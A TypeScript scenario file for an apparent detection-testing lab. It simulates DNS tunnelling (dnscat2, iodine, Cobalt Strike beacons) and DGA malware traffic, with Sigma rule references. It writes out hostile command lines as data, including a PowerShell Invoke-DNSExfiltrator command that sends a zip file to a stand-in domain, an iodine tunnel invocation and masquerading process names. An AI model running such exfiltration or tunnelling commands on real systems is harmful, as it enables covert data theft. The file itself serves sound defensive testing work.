/** C2 in DNS: tunnels (dnscat2, iodine, Cobalt Strike DNS, base64 exfiltration, slow hex) and DGA bursts. */
import { ALPHA } from '../rng.js';
import { dgaCryptolocker, dgaLocky, dgaNecurs, dgaWords, dnscat2Name, hex, iodineName, labels, UA_CHROME, winHeaders } from '../shapes.js';
import type { PlayContext, Proc, Scenario } from '../types.js';
import { EXPLORER, home, SYS32, SYSWOW64, WHY } from './kit.js';

const SIGMA = (id: string, title: string): string => `SigmaHQ ${id} "${title}" (DRL-1.1)`;
const TUNNEL_RULES = [
  SIGMA('f0a8cedc-1d22-4453-9c44-8d9f4ebd5d35', 'High TXT Records Requests Rate'),
  SIGMA('8198e9a8-e38f-4ba5-8f16-882b1c0f880e', 'High DNS subdomain requests rate per domain'),
  SIGMA('14aa0d9e-c70a-4a49-bdc1-e5cbc4fc6af7', 'Large domain name request'),
];

/** `n` queries `gapMs` apart (±50 %), name and type from `next`. */
async function burst(ctx: PlayContext, p: Proc, n: number, gapMs: number, next: (i: number) => { name: string; type?: 'A' | 'TXT' | 'CNAME' | 'MX' | 'NULL' }): Promise<void> {
  for (let i = 0; i < n; i++) {
    await p.dns(next(i));
    await ctx.sleep(ctx.rng.jitter(gapMs, 0.5));
  }
}

const tunnels: Scenario[] = [
  {
    id: 'c2-dns-dnscat2-hex-txt',
    label: 'c2',
    cls: 'dns-tunnel',
    title: 'dnscat2 client: ~120 hex-encoded queries under one domain, TXT/CNAME/MX rotating',
    sources: ['iagox86/dnscat2 doc/protocol.md (hex encoding, TXT/CNAME/MX, 63-octet labels)', ...TUNNEL_RULES],
    expect: [WHY.dnsTunnel],
    long: true,
    async play(ctx) {
      const domain = 'tunnel-cdn-resolve.com';
      ctx.lab.zone(domain, { txt: () => hex(ctx.rng, 120), cname: () => `${hex(ctx.rng, 40)}.${domain}`, mx: () => `${hex(ctx.rng, 40)}.${domain}` });
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\svchosts.exe`, commandLine: `svchosts.exe --dns domain=${domain} --secret=a3f`, parentImage: `${SYS32}\\cmd.exe` });
      const session = hex(ctx.rng, 4);
      const types = ['TXT', 'CNAME', 'MX'] as const;
      await burst(ctx, p, 120, 40, (i) => ({ name: dnscat2Name(ctx.rng, domain, session, ctx.rng.int(20, 60)), type: types[i % 3] ?? 'TXT' }));
    },
  },
  {
    id: 'c2-dns-iodine-base32-null',
    label: 'c2',
    cls: 'dns-tunnel',
    title: 'iodine: ~150 NULL queries with base32 labels (150–200 chars) under t.tun-relay.net',
    sources: ['yarrick/iodine README ("NULL" downstream, Base32/64/128 upstream encodings)', ...TUNNEL_RULES],
    expect: [WHY.dnsTunnel],
    long: true,
    async play(ctx) {
      const domain = 't.tun-relay.net';
      ctx.lab.zone(domain, { nullData: () => ctx.rng.bytes(200), txt: () => ctx.rng.chars(ALPHA.base32, 200), a: ctx.lab.addressOf('ns.tun-relay.net') });
      const p = ctx.proc({ image: `${home(ctx.host)}\\Tools\\iodine-0.7.0-windows\\iodine.exe`, commandLine: `iodine.exe -f -P ******** ${domain}`, parentImage: `${SYS32}\\cmd.exe` });
      await burst(ctx, p, 150, 25, () => ({ name: iodineName(ctx.rng, domain, ctx.rng.chars(ALPHA.hex, 1)), type: 'NULL' }));
    },
  },
  {
    id: 'c2-dns-cobaltstrike-dns-beacon',
    label: 'c2',
    cls: 'dns-tunnel',
    title: 'Cobalt Strike DNS beacon: aaa.stage.* TXT staging, <id> A check-ins, post.1<hex>.<id> output',
    sources: [SIGMA('2975af79-28c4-4d2f-a951-9095f229df29', 'Cobalt Strike DNS Beaconing'), SIGMA('f356a9c4-effd-4608-bbf8-408afd5cd006', 'Suspicious Cobalt Strike DNS Beaconing - Sysmon'), 'Cobalt Strike default profile stage strings ("%s.1%x.%x%x.%s", "post")'],
    expect: [WHY.dnsTunnel, /cobalt|stage|beacon/i],
    long: true,
    async play(ctx) {
      const domain = 'dns-cdn-resolve.com';
      ctx.lab.zone(domain, { a: ctx.lab.addressOf(`ns1.${domain}`), txt: () => ctx.rng.bytes(180).toString('base64').slice(0, 240) });
      const p = ctx.proc({ image: `${SYSWOW64}\\rundll32.exe`, commandLine: 'C:\\Windows\\syswow64\\rundll32.exe', parentImage: `${home(ctx.host)}\\Downloads\\beacon_dns.exe`, originalFileName: 'RUNDLL32.EXE' });
      const id = hex(ctx.rng, 8);
      const stage = ctx.rng.int(100000, 999999);
      await burst(ctx, p, 20, 30, (i) => ({ name: `${i === 0 ? 'aaa' : hex(ctx.rng, 3)}.stage.${stage}.${domain}`, type: 'TXT' }));
      await burst(ctx, p, 8, 300, () => ({ name: `${id}.${domain}` }));
      await burst(ctx, p, 25, 40, (i) => ({ name: `post.1${hex(ctx.rng, 56)}.${(i + 1).toString(16)}${id}.${domain}` }));
    },
  },
  {
    id: 'c2-dns-exfil-base64-labels',
    label: 'c2',
    cls: 'dns-tunnel',
    title: 'PowerShell DNS exfiltration: ~70 A queries of base64 chunks ("==." padding) with a sequence label',
    sources: [SIGMA('4153a907-2451-4e4f-a578-c52bb6881432', 'Suspicious DNS Query with B64 Encoded String'), 'Arno0x/DNSExfiltrator (chunked encoded file over DNS queries)', 'MITRE ATT&CK T1048.003'],
    expect: [WHY.dnsTunnel],
    long: true,
    async play(ctx) {
      const domain = 'stats-collector-api.com';
      ctx.lab.zone(domain, { a: ctx.lab.addressOf(`ns.${domain}`) });
      const p = ctx.proc({ image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine: `powershell.exe -ep bypass -c ". .\\Invoke-DNSExfiltrator.ps1; Invoke-DNSExfiltrator -i C:\\Users\\Public\\q3.zip -d ${domain} -p s3cr3t"`, parentImage: `${SYS32}\\cmd.exe` });
      await burst(ctx, p, 70, 35, (i) => {
        // 40 bytes ≡ 1 (mod 3) → base64 ends in "==" (RFC 4648 §4); url-safe characters keep it a DNS label.
        const chunk = ctx.rng.bytes(40).toString('base64').replace(/\+/g, '-').replace(/\//g, '_');
        return { name: `${chunk}.${i}.${domain}` };
      });
    },
  },
  {
    id: 'c2-dns-slow-long-hex-labels',
    label: 'c2',
    cls: 'dns-tunnel',
    title: 'Low-and-slow: 40 A queries of two 60-char hex labels, one every ~200 ms',
    sources: [SIGMA('14aa0d9e-c70a-4a49-bdc1-e5cbc4fc6af7', 'Large domain name request'), 'MITRE ATT&CK T1071.004 (Application Layer Protocol: DNS)'],
    expect: [WHY.dnsTunnel],
    long: true,
    async play(ctx) {
      const domain = 'metrics-edge-node.net';
      ctx.lab.zone(domain, { a: ctx.lab.addressOf(`ns.${domain}`) });
      const p = ctx.proc({ image: 'C:\\ProgramData\\Packages\\telemetry\\telesvc.exe', parentImage: `${SYS32}\\services.exe`, user: 'NT AUTHORITY\\SYSTEM' });
      await burst(ctx, p, 40, 200, () => ({ name: `${labels(hex(ctx.rng, 120), 60)}.${domain}` }));
    },
  },
];

/** A DGA story: a burst of NXDOMAINs, then the one name that resolves, then HTTP to it. */
function dgaScenario(id: string, title: string, sources: string[], gen: (ctx: PlayContext) => string, tries: number, image: (ctx: PlayContext) => string, path: string): Scenario {
  return {
    id,
    label: 'c2',
    cls: 'dga',
    title,
    sources,
    expect: [WHY.dga],
    async play(ctx) {
      const p = ctx.proc({ image: image(ctx), parentImage: EXPLORER });
      const live = gen(ctx);
      ctx.lab.addressOf(live);
      for (let i = 0; i < tries; i++) {
        await p.dns({ name: gen(ctx), nx: true });
        await ctx.sleep(ctx.rng.int(20, 80));
      }
      await p.dns({ name: live });
      await p.http({ url: `http://${live}${path}`, method: 'POST', headers: winHeaders(UA_CHROME, [['Content-Type', 'application/octet-stream']]), body: ctx.rng.bytes(ctx.rng.int(200, 800)) });
    },
  };
}

const DGARCHIVE = 'Plohmann et al., "A Comprehensive Measurement Study of Domain Generating Malware" (USENIX Security 2016, DGArchive)';

const dga: Scenario[] = [
  dgaScenario('c2-dga-necurs-like', 'Necurs-like DGA: 30 NXDOMAINs over odd TLDs, then POST to the one that resolves',
    [DGARCHIVE, 'baderj/domain_generation_algorithms necurs/ (7–21 letters, ~40 TLDs)'], (ctx) => dgaNecurs(ctx.rng), 30,
    (ctx) => `${home(ctx.host)}\\AppData\\Local\\Temp\\${ctx.rng.chars(ALPHA.lower, 8)}.exe`, '/'),
  dgaScenario('c2-dga-cryptolocker-like', 'CryptoLocker-like DGA: 25 NXDOMAINs (12–15 letters), then POST /home/',
    [DGARCHIVE, 'baderj/domain_generation_algorithms cryptolocker (.com .net .biz .ru .org .co.uk .info)'], (ctx) => dgaCryptolocker(ctx.rng), 25,
    (ctx) => `${home(ctx.host)}\\AppData\\Roaming\\{${hex(ctx.rng, 8)}}\\${ctx.rng.chars(ALPHA.lower, 6)}.exe`, '/home/'),
  dgaScenario('c2-dga-locky-like', 'Locky-like DGA: 22 NXDOMAINs over ccTLDs, then POST /main.php',
    [DGARCHIVE, 'baderj/domain_generation_algorithms locky/ (example_domains.txt)', 'Locky C2 POST /main.php (public sandbox reports)'], (ctx) => dgaLocky(ctx.rng), 22,
    (ctx) => `${home(ctx.host)}\\AppData\\Local\\Temp\\svchost.exe`, '/main.php'),
  dgaScenario('c2-dga-dictionary-words', 'Dictionary DGA (Suppobox-like): 25 NXDOMAINs of two English words .net, then POST',
    [DGARCHIVE + ' (Suppobox: wordlist-based, low entropy)'], (ctx) => dgaWords(ctx.rng), 25,
    (ctx) => `${home(ctx.host)}\\AppData\\Roaming\\Microsoft\\${ctx.rng.chars(ALPHA.lower, 7)}.exe`, '/'),
];

export const c2DnsScenarios: readonly Scenario[] = [...tunnels, ...dga];
